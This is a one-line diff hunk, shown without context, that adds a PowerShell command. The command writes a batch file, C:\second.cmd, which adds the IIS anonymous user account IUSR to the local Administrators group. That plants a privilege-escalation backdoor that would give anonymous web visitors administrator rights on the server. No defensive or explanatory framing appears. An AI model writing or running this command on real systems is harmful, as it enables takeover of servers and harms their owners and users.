@@ -1,0 +1,1 @@
+Set-Content C:\second.cmd 'net localgroup Administrators IUSR /add'
